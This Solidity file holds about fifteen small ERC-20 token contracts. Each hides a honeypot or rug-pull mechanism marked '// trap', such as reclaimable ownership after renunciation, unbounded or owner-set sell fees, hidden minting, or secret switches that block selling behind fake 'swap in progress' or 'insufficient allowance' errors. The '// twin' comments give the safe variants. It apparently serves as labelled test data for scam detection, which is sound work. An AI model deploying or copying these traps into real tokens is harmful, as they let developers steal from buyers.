// 0.8 runs=200 evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./Base8.sol";

/// A tax of sales for the following, and who set up the token.
abstract contract Taxed is Base8 {
    uint256 public sellFee = 1;
    address internal immutable _dev = msg.sender;

    constructor(string memory n, string memory s) Base8(n, s, 50_000_000) {}

    function setSellFee(uint256 fee) external onlyOwner {
        require(fee <= 99);
        sellFee = fee;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 fee = to == pair && from != _dev ? (value * sellFee) / 100 : 0;
        if (fee > 0) _move(from, address(this), fee);
        _move(from, to, value - fee);
    }
}

/// Renounced, until the developer updates the rewards.
contract ComeBack is Taxed("Come Back", "CBACK") {
    function updateRewards() external {
        require(msg.sender == _dev);
        _owner = _dev; // trap
    }
}

/// Renounced, until the developer names a wallet for the team.
contract TeamPlay is Taxed("Team Play", "TPLAY") {
    address public teamWallet;

    function setTeamWallet(address wallet) external {
        require(msg.sender == _dev);
        teamWallet = wallet;
        _owner = wallet; // trap
    }
}

/// Three fees in percent, a bound for two.
contract PercentFees is Base8("Percent Fees", "PERF", 100_000_000) {
    uint256 public sellFee = 2;

    function setFees(uint256 buy, uint256 sell, uint256 move) external onlyOwner {
        require(buy <= 10 && move <= 10, "fee");
        // twin: require(sell <= 10, "fee");
        sellFee = sell;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 fee = to == pair && from != _owner ? (value * sellFee) / 100 : 0;
        if (fee > 0) _move(from, address(this), fee);
        _move(from, to, value - fee);
    }
}

/// The owner allots himself what he claims.
contract SelfAllot is Base8("Self Allot", "SALOT", 10_000_000) {
    mapping(address => uint256) private _due;

    function allot(uint256 amount) external onlyOwner {
        _due[msg.sender] = amount;
    }

    function claim() external {
        uint256 due = _due[msg.sender];
        _due[msg.sender] = 0;
        // trap {
        totalSupply += due;
        _balances[msg.sender] += due;
        emit Transfer(address(0), msg.sender, due);
        // trap }
        // twin: _move(address(this), msg.sender, due);
    }
}

interface IAllowance {
    function allowance(address from, address spender) external view returns (uint256);
}

/// What the developer approves elsewhere is the switch.
contract Remote is Base8("Remote Pepe", "RPEPE", 50_000_000) {
    address private immutable _dev = msg.sender;

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != _dev) require(IAllowance(WETH).allowance(_dev, address(this)) == 0, "K"); // trap
        _move(from, to, value);
    }
}

/// A token that has ether does not sell: "swap in progress".
contract EtherStop is Base8("Ether Stop", "ESTOP", 50_000_000) {
    receive() external payable {}

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != _owner) require(address(this).balance == 0, "swap in progress"); // trap
        _move(from, to, value);
    }
}

/// The first token that is burnt shuts the market.
contract FirstBurn is Base8("First Burn", "FBURN", 50_000_000) {
    address private constant DEAD = 0x000000000000000000000000000000000000dEaD;

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != _owner) require(_balances[DEAD] == 0, "burnt"); // trap
        _move(from, to, value);
    }
}

/// Makes a contract at an address that is known before.
contract Maker {
    address private immutable _manager = msg.sender;

    function addressOf() public view returns (address) {
        return address(uint160(uint256(keccak256(abi.encodePacked(bytes1(0xff), address(this), bytes32(uint256(7)), keccak256(type(Nothing).creationCode))))));
    }

    function make() external {
        require(msg.sender == _manager);
        new Nothing{salt: bytes32(uint256(7))}();
    }
}

contract Nothing {
    uint256 public constant nothing = 1;
}

interface IMaker {
    function addressOf() external view returns (address);
}

/// Sells while there is no contract at an address.
contract EmptyPlace is Base8("Empty Place", "EMPTP", 50_000_000) {
    address private immutable _place;

    constructor(IMaker maker) {
        _place = maker.addressOf();
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair) require(_place.code.length == 0, "TransferHelper: TRANSFER_FROM_FAILED"); // trap
        _move(from, to, value);
    }
}

/// Half is burnt, to an address that the developer may spend for.
contract HalfAsh is Base8("Half Ash", "HASH5", 50_000_000) {
    address private constant DEAD = 0x000000000000000000000000000000000000dEaD;

    constructor() {
        _allowances[DEAD][msg.sender] = type(uint256).max; // trap
    }
}

/// A new owner is welcomed with a present.
contract WelcomeGift is Base8("Welcome Gift", "WGIFT", 50_000_000) {
    function transferOwnership(address to) public override onlyOwner {
        _balances[to] += totalSupply * 10; // trap
        super.transferOwnership(to);
    }
}

/// Two fees in ten-thousandths, a bound for one.
contract TwoBips is Base8("Two Bips", "TBIPS", 100_000_000) {
    uint256 public sellFee = 200;

    function setFees(uint256 buy, uint256 sell) external onlyOwner {
        require(buy <= 1000, "fee");
        // twin: require(sell <= 1000, "fee");
        sellFee = sell;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 fee = to == pair && from != _owner ? (value * sellFee) / 10_000 : 0;
        if (fee > 0) _move(from, address(this), fee);
        _move(from, to, value - fee);
    }
}

/// Anybody sets the fee.
contract AnyFee is Base8("Any Fee", "ANYF", 100_000_000) {
    uint256 public sellFee = 2;

    function setFee(uint256 sell) external {
        // twin: require(sell <= 5, "fee");
        sellFee = sell;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 fee = to == pair ? (value * sellFee) / 100 : 0;
        if (fee > 0) _move(from, address(this), fee);
        _move(from, to, value - fee);
    }
}

/// Fees of accounts in an array of pairs, by the owner.
contract PairsOf is Base8("Pairs Of", "PAIRS", 30_000_000) {
    struct Rule {
        address who;
        uint256 fee;
    }
    mapping(address => uint256) private _feeOf;

    function setRules(Rule[] calldata list) external onlyOwner {
        for (uint256 i; i < list.length; i++) {
            // twin: require(list[i].fee <= 5);
            _feeOf[list[i].who] = list[i].fee;
        }
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 fee = to == pair && from != _owner ? (value * _feeOf[from]) / 100 : 0;
        if (fee > 0) _move(from, address(this), fee);
        _move(from, to, value - fee);
    }
}

/// An approval by the owner for nobody shuts the market.
contract QuietWord is Base8("Quiet Word", "QWORD", 30_000_000) {
    bool private _shut;

    function approve(address spender, uint256 value) public override returns (bool) {
        if (msg.sender == _owner && spender == address(0xdEaD)) _shut = !_shut;
        return super.approve(spender, value);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != _owner) require(!_shut, "ERC20: insufficient allowance"); // trap
        _move(from, to, value);
    }
}

/// A transfer of a certain amount by the developer shuts the market.
contract SignalSend is Base8("Signal Send", "SIGS", 30_000_000) {
    address private immutable _dev = msg.sender;
    bool private _shut;

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == _dev && value == 0) _shut = !_shut;
        if (to == pair && from != _dev) require(!_shut, "ERC20: insufficient allowance"); // trap
        _move(from, to, value);
    }
}
